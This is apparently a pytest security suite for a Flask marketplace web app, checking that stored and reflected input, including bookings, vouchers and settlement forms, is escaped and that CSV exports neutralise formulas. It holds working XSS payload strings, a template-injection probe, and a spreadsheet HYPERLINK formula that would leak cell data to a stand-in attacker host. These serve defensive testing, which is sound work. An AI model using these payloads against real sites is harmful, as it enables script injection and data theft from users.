"""S7: stored and reflected XSS (ASVS 5.0 V1.2.1, V1.3.1, V3.2.2).

Payloads go in through the real forms (registration, organisation create and edit, the officer's
rejection reason) and come out on every page that shows them; the raw payload must never appear,
and the parsed HTML must contain no script, handler attribute or ``javascript:`` link that the
templates did not put there themselves.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest

from marketplace.auth.models import SiteRole
from tests.security.helpers import (
    NEW_PASSWORD,
    build_world,
    field_has_error,
    instrument_form,
    local_day,
    mint_session,
    organization_form,
    quick_user,
    row_counts,
    sign_in,
)
from tests.security.scripted_figures import timed_figure

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "<svg/onload=alert(1)>"
ATTR = "' onmouseover='alert(1)"
SSTI = "{{ 7*7 }}"
URL_BREAKOUT = 'https://example.com/"><img/src=x/onerror=alert(1)>'  # passes the website regex

RAW_FRAGMENTS = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    SVG,
    "onmouseover='alert(1)",
    "<img/src=x/onerror=alert(1)>",
]
ESCAPED_SIGNS = [
    "&lt;script&gt;",
    "&lt;img",
    "&lt;svg",
    "\\u003cscript\\u003e",
    "\\u003cimg",
    "\\u003csvg",
]

DISPLAY_NAME = SCRIPT + "小王"
FIELDS = {
    "name_zh": IMG + "长治公司",
    "name_en": SVG + " Ltd",
    "description": SCRIPT + IMG,
    "needs": SCRIPT,
    "actual_controller": ATTR,
    "address": SSTI + SVG,
}
REJECTION_REASON = IMG + SCRIPT

BAD_WEBSITES = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://x.cn javascript:alert(1)",
    "//evil.com/x",
    "vbscript:msgbox(1)",
]


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def injected_markup(page: str) -> list[str]:
    """Elements or attributes in the parsed page that only an injection could have produced."""
    parser = TagCollector()
    parser.feed(page)
    found = []
    for tag, attrs in parser.tags:
        handlers = [name for name in attrs if name.startswith("on")]
        if handlers:
            found.append(f"<{tag}> with {handlers}")
        if tag == "script" and not (attrs.get("src") or "").startswith("/static/"):
            found.append("<script> not from /static/")
        if tag in ("svg", "img", "iframe", "object", "embed"):
            found.append(f"<{tag}>")
        for name in ("href", "src", "action", "formaction"):
            value = (attrs.get(name) or "").strip().lower()
            if value.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"<{tag} {name}={value[:30]}>")
    return found


def check_page(client, url: str, tally: dict, problems: list, *, expect_sign: bool = True):
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    page = response.get_data(as_text=True)
    tally["pages"] += 1
    raw = [fragment for fragment in RAW_FRAGMENTS if fragment in page]
    tally["raw"] += len(raw)
    if raw:
        problems.append(f"{url}: raw payload {raw}")
    injected = injected_markup(page)
    if injected:
        problems.append(f"{url}: injected markup {injected}")
    if expect_sign and not any(sign in page for sign in ESCAPED_SIGNS):
        problems.append(f"{url}: the payload was not rendered at all (nothing was checked)")
    return page


def test_stored_payloads_are_escaped_on_every_page(db, make_client, figures):
    officer_user = quick_user(role=SiteRole.OFFICER)
    admin_user = quick_user(role=SiteRole.ADMIN)
    db.session.commit()
    owner, officer, admin, anonymous = make_client(), make_client(), make_client(), make_client()
    sign_in(officer, officer_user.email)
    sign_in(admin, admin_user.email)
    tally, problems = figures["xss"], []
    tally["payloads"] = len(RAW_FRAGMENTS)

    response = owner.post(
        "/auth/register",
        data={
            "email": "xss-owner@example.cn",
            "display_name": DISPLAY_NAME,
            "password": NEW_PASSWORD,
            "confirm": NEW_PASSWORD,
        },
    )
    assert response.status_code == 302

    # A javascript: (or other non-http) website is refused and nothing is written.
    for website in BAD_WEBSITES:
        before = row_counts()
        response = owner.post(
            "/organizations/new", data=organization_form(website=website, **FIELDS)
        )
        assert response.status_code == 200, website
        assert field_has_error(response.get_data(as_text=True), "website"), website
        assert row_counts() == before, website

    response = owner.post(
        "/organizations/new", data=organization_form(website=URL_BREAKOUT, **FIELDS)
    )
    assert response.status_code == 302
    org_id = int(urlsplit(response.headers["Location"]).path.rstrip("/").rsplit("/", 1)[1])

    response = officer.post(
        f"/office/organizations/{org_id}/reject", data={"reason": REJECTION_REASON}
    )
    assert response.status_code == 302
    # The rejection reason is shown to the owner.
    check_page(owner, "/dashboard", tally, problems)
    check_page(owner, f"/organizations/{org_id}", tally, problems)

    data = organization_form(website=URL_BREAKOUT, **{**FIELDS, "description": IMG + SVG})
    data["credit_code"] = owner.get(f"/api/v1/organizations/{org_id}").get_json()["organization"][
        "credit_code"
    ]
    assert owner.post(f"/organizations/{org_id}/edit", data=data).status_code == 302
    assert officer.post(f"/office/organizations/{org_id}/verify").status_code == 302

    for url in (
        "/dashboard",
        f"/organizations/{org_id}",
        f"/organizations/{org_id}/members",
        f"/organizations/{org_id}/edit",
        "/auth/account",
        "/organizations/",
    ):
        check_page(owner, url, tally, problems)
    for url in (f"/organizations/{org_id}", "/organizations/"):
        check_page(anonymous, url, tally, problems)
    anonymous.post("/language", data={"lang": "en"})  # the directory shows name_en in English
    check_page(anonymous, "/organizations/", tally, problems)
    for url in (
        "/office/",
        f"/office/organizations/{org_id}",
        "/office/audit",
        "/office/audit?type=organizations",
    ):
        check_page(officer, url, tally, problems)
    for url in ("/office/users", "/office/users?q=" + quote("<script>")):
        check_page(admin, url, tally, problems)

    # Template syntax in data is text, never evaluated (no server-side template injection).
    page = owner.get(f"/organizations/{org_id}").get_data(as_text=True)
    assert SSTI in page
    assert not problems, "\n".join(problems)


def test_reflected_input_is_escaped(db, make_client, figures):
    admin_user = quick_user(role=SiteRole.ADMIN)
    db.session.commit()
    admin, anonymous = make_client(), make_client()
    sign_in(admin, admin_user.email)
    tally, problems = figures["xss"], []
    probe = quote(IMG + SCRIPT, safe="")
    # (client, url, whether the decoded input is shown on the page)
    for client, url, shown in [
        (anonymous, f"/?x={probe}", False),  # kept percent-encoded in the language form's "next"
        (anonymous, f"/organizations/?kind={probe}&district={probe}", False),
        (anonymous, f"/auth/login?next={probe}", False),
        (admin, f"/office/users?q={probe}", True),  # the search box shows the query
        (admin, f"/office/audit?type={probe}", False),
    ]:
        check_page(client, url, tally, problems, expect_sign=shown)
    response = anonymous.get(f"/no-such-page/{probe}")
    assert response.status_code == 404
    page = response.get_data(as_text=True)
    assert not [f for f in RAW_FRAGMENTS if f in page]
    assert injected_markup(page) == []
    assert not problems, "\n".join(problems)


def test_detector_finds_injected_markup():
    """The checks above would notice a payload that got through."""
    for page in (
        f"<p>{SCRIPT}</p>",
        f'<input value="x{IMG}">',
        f"<p>{SVG}</p>",
        '<a href=" javascript:alert(1)">x</a>',
        f"<input value='{ATTR}'>",
    ):
        assert injected_markup(page), page
    assert (
        injected_markup(
            '<script src="/static/vendor/x.js"></script>'
            '<input value="&#34;&gt;&lt;img src=x onerror=alert(1)&gt;">'
        )
        == []
    )


# ---------------------------------------------------------------------------------------------
# step 3: bookings, vouchers, settlement
def test_step3_payloads_are_escaped_on_every_page(db, make_client, figures):
    """Booker, lab and officer each write payloads through the step-3 forms (helpers.build_step3
    world); every page that shows them is checked for each of its readers."""
    w = build_world(step3=True)
    clients = {}
    for persona in ("other_org", "owner_a", "officer"):
        clients[persona] = make_client()
        mint_session(clients[persona], w.uid(persona))
    booker, lab, officer = clients["other_org"], clients["owner_a"], clients["officer"]
    tally, problems = figures["xss"], []

    def post(client, url, data):
        response = client.post(url, data=data)
        assert response.status_code == 302, (url, response.get_data(as_text=True)[:2000])
        return response.headers["Location"]

    booked = post(
        booker,
        f"/instruments/{w.listing_a}/book",
        {
            "day": local_day(3).isoformat(),
            "starts_at": "14:00",
            "ends_at": "15:00",
            "organization_id": str(w.org_b_id),
            "programme_id": str(w.programmes["open"]),
            "purpose": SCRIPT + IMG,
            "request_key": "xss:booking",
            "confirm": "y",
        },
    )
    post(booker, f"/bookings/{w.bookings['approved']}/cancel", {"reason": IMG + SVG})
    applied = post(
        booker,
        f"/vouchers/programmes/{w.programmes['fresh']}/apply",
        {"organization_id": str(w.org_b_id), "requested_fen": "3000", "purpose": IMG + SVG},
    )
    post(
        booker,
        f"/vouchers/organizations/{w.org_b_id}/relations",
        {"related": w.org_a_credit_code, "description": SVG + SCRIPT},
    )
    post(lab, f"{booked}/reject", {"reason": SVG + IMG})
    post(
        lab,
        f"/bookings/{w.bookings['started']}/complete",
        {"actual_minutes": "60", "usage_note": SCRIPT + SVG, "invoice_number": IMG + SCRIPT},
    )
    post(
        lab,
        f"/instruments/{w.listing_a}/qualifications",
        {"email": w.email("plain"), "note": IMG + SCRIPT},
    )
    post(
        lab,
        f"/vouchers/programmes/{w.programmes['fresh']}/admission",
        {"organization_id": str(w.org_a_id), "note": SCRIPT + SVG},
    )
    post(officer, f"{applied}/refuse", {"reason": SCRIPT + IMG})
    created = post(
        officer,
        "/vouchers/programmes/new",
        {
            "name_zh": IMG + "创新券",
            "description": SCRIPT + SVG,
            "validity_days": "90",
            "layers-0-name_zh": SVG + "市级",
            "layers-0-share_bp": "50",
            "layers-0-budget_fen": "1000",
        },
    )
    post(officer, f"/vouchers/admissions/{w.admission}", {"status": "suspended", "note": IMG + SVG})
    first, second = w.layers  # the booking form offers the open programme by name
    post(
        officer,
        f"/vouchers/programmes/{w.programmes['open']}/edit",
        {
            "name_zh": SVG + "创新券",
            "validity_days": "90",
            f"budget_{first}": "100000",
            "budget_" + str(second): "40000",
        },
    )
    draft, approved = (f"/office/settlement/{w.batches[name]}" for name in ("draft", "approved"))
    post(officer, f"{draft}/items/{w.items['draft']}/invoice", {"invoice_number": SVG + SCRIPT})
    post(officer, f"{approved}/pay", {"reference": IMG + SCRIPT})
    made = created.removesuffix("/manage")

    pages = {
        "other_org": [
            f"/instruments/{w.listing_a}/book",
            booked,
            f"/bookings/{w.bookings['approved']}",
            "/bookings/",
            applied,
            "/vouchers/",
            f"/vouchers/organizations/{w.org_b_id}/relations",
            f"/organizations/{w.org_b_id}",
        ],
        "owner_a": [
            booked,
            f"/bookings/{w.bookings['started']}",
            "/bookings/lab",
            "/vouchers/",
            f"/vouchers/organizations/{w.org_a_id}/relations",
            f"/organizations/{w.org_a_id}",
        ],
        "officer": [
            booked,
            f"/bookings/{w.bookings['started']}",
            applied,
            "/vouchers/programmes",
            made,
            f"{made}/manage",
            f"{made}/edit",
            f"/vouchers/programmes/{w.programmes['open']}/manage",
            f"/vouchers/admissions/{w.admission}",
            draft,
            f"{draft}/print",
            approved,
            f"{approved}/print",
            "/office/audit",
        ],
    }
    for persona, urls in pages.items():
        for url in urls:
            check_page(clients[persona], url, tally, problems)
    assert not problems, "\n".join(problems)


def test_opening_hours_error_escapes_the_input(db, make_client, figures):
    """The publishing form's opening-hours message quotes the part it could not read."""
    w = build_world(listing_status="published")
    client = make_client()
    mint_session(client, w.uid("owner_a"))
    response = client.post(
        f"/listings/{w.listing_a}/edit",
        data={**instrument_form(w.org_a_id), "hours_0": "08:00-" + SVG},
    )
    page = response.get_data(as_text=True)
    assert "problem near" in page or "附近" in page or "&lt;svg" in page, page[:2000]
    figures["xss"]["pages"] += 1
    assert SVG not in page and injected_markup(page) == []
    assert "&lt;svg" in page


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_settlement_csv_does_not_export_formulas(db, make_client):
    """A lab records usage with a formula for an invoice number; the officer exports the batch
    for the finance bureau: no cell may start like a spreadsheet formula (ASVS 5.0 V1.2.10)."""
    w = build_world(step3=True)
    lab, officer = make_client(), make_client()
    mint_session(lab, w.uid("owner_a"))
    mint_session(officer, w.uid("officer"))
    formula = '=HYPERLINK("https://evil.example/?"&A2,"发票")'
    response = lab.post(
        f"/bookings/{w.bookings['started']}/complete",
        data={"actual_minutes": "60", "invoice_number": formula},
    )
    assert response.status_code == 302
    response = officer.post(
        "/office/settlement/new",
        data={
            "programme_id": str(w.programmes["open"]),
            "period_start": local_day(-30).isoformat(),
            "period_end": local_day(1).isoformat(),
        },
    )
    assert response.status_code == 302
    text = officer.get(response.headers["Location"] + "/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the invoice number was exported
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


def test_lazily_translated_messages_are_text_not_markup(app):
    """flask-babel's LazyString claims to be HTML (``__html__``); ours escapes, so a lazy message
    that carries user input (a form error, a label) can never inject markup anywhere."""
    from flask_babel import lazy_gettext
    from markupsafe import Markup, escape

    with app.test_request_context():
        message = lazy_gettext("Problem near “%(part)s”.", part='<img src=x onerror="alert(1)">')
        assert "<img" not in str(escape(message))
        assert "&lt;img" in Markup("{}").format(message)


_timed = timed_figure("xss")  # elapsed time of this figure's tests
